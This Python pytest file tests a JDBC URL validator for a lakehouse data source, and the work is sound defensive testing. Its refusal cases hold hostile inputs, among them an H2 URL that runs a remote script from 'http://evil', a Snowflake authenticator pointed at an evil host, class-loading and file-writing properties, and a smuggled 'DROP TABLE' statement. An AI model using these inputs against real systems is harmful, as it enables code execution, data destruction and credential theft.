"""A JDBC URL names one database and nothing that could run code, write files or carry a password."""

from typing import Any

import pytest
from pydantic import ValidationError

from lakehouse_api.sources.jdbc import JdbcSource

GOOD = [
    ("postgres", "jdbc:postgresql://db.example.com/shop"),
    ("postgres", "jdbc:postgresql://10.0.0.1:5432/shop?sslmode=verify-full&sslrootcert=/etc/ca/ca.pem"),
    ("redshift", "jdbc:redshift://c.abc.eu-west-1.redshift.amazonaws.com:5439/dev?ssl=true"),
    ("snowflake", "jdbc:snowflake://org-account.snowflakecomputing.com/?warehouse=W&role=R&db=D&schema=S"),
]
BAD = [
    pytest.param("postgres", "jdbc:postgresql://user:secret@db/shop", id="a password"),
    pytest.param("postgres", "jdbc:postgresql://db/shop?user=u&password=p", id="a password as a property"),
    pytest.param("postgres", "jdbc:postgresql://db/shop?socketFactory=x.Y&socketFactoryArg=z", id="a class to load"),
    pytest.param("postgres", "jdbc:postgresql://db/shop?sslfactory=x.Y", id="a TLS class to load"),
    pytest.param("postgres", "jdbc:postgresql://db/shop?ssl=true&loggerFile=/tmp/x", id="a file to write"),
    pytest.param("postgres", "jdbc:postgresql://db/shop?SSLMODE=disable", id="a property in other letters"),
    pytest.param("postgres", "jdbc:postgresql://db/shop?sslmode=%72equire", id="an escape"),
    pytest.param("postgres", "jdbc:postgresql://db,evil/shop", id="a second host"),
    pytest.param("postgres", "jdbc:postgresql://db/shop\n", id="a line break"),
    pytest.param("postgres", "jdbc:redshift://db/shop", id="another database"),
    pytest.param("postgres", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", id="another driver"),
    pytest.param("redshift", "jdbc:redshift:iam://db/shop", id="a login by IAM"),
    pytest.param("redshift", "jdbc:redshift://db/shop;LogPath=/tmp", id="another separator"),
    pytest.param("redshift", "jdbc:redshift://db/shop?plugin_name=x.Y", id="a plugin to load"),
    pytest.param("snowflake", "jdbc:snowflake://a.snowflakecomputing.com/?authenticator=http://evil", id="a login"),
    pytest.param("snowflake", "jdbc:snowflake://a.snowflakecomputing.com/?private_key_file=/x", id="a key file"),
]


def source(**changes: Any) -> JdbcSource:
    return JdbcSource.model_validate({"dialect": "postgres", "url": GOOD[0][1], "table": "public.orders"} | changes)


@pytest.mark.parametrize(("dialect", "url"), GOOD)
def test_a_plain_url_is_taken(dialect: str, url: str) -> None:
    assert source(dialect=dialect, url=url).addresses == {"url": url}


@pytest.mark.parametrize(("dialect", "url"), BAD)
def test_a_url_that_does_more_is_refused(dialect: str, url: str) -> None:
    with pytest.raises(ValidationError, match=r"source\.jdbc\.url of dialect"):
        source(dialect=dialect, url=url)


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"query": "SELECT 1"}, id="a table and a query"),
        pytest.param({"table": None}, id="neither"),
        pytest.param({"table": None, "query": "SELECT 1; DROP TABLE x"}, id="two statements"),
        pytest.param({"table": "a.b.c.d"}, id="a name of four parts"),
        pytest.param({"table": 'public."open'}, id="an open quote"),
        pytest.param({"partition": {"column": "id", "count": 1}}, id="one range"),
    ],
)
def test_what_cannot_be_read_is_refused(changes: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        source(**changes)


def test_the_secret_gives_each_key_to_the_job() -> None:
    uses = source(credentials={"secretRef": {"name": "db"}}).secret_uses

    assert [(use.key, use.variable) for use in uses] == [
        ("username", "LAKEHOUSE_SOURCE_USERNAME"),
        ("password", "LAKEHOUSE_SOURCE_PASSWORD"),
        ("privateKey", "LAKEHOUSE_SOURCE_PRIVATE_KEY"),
        ("privateKeyPassphrase", "LAKEHOUSE_SOURCE_PRIVATE_KEY_PASSPHRASE"),
    ]
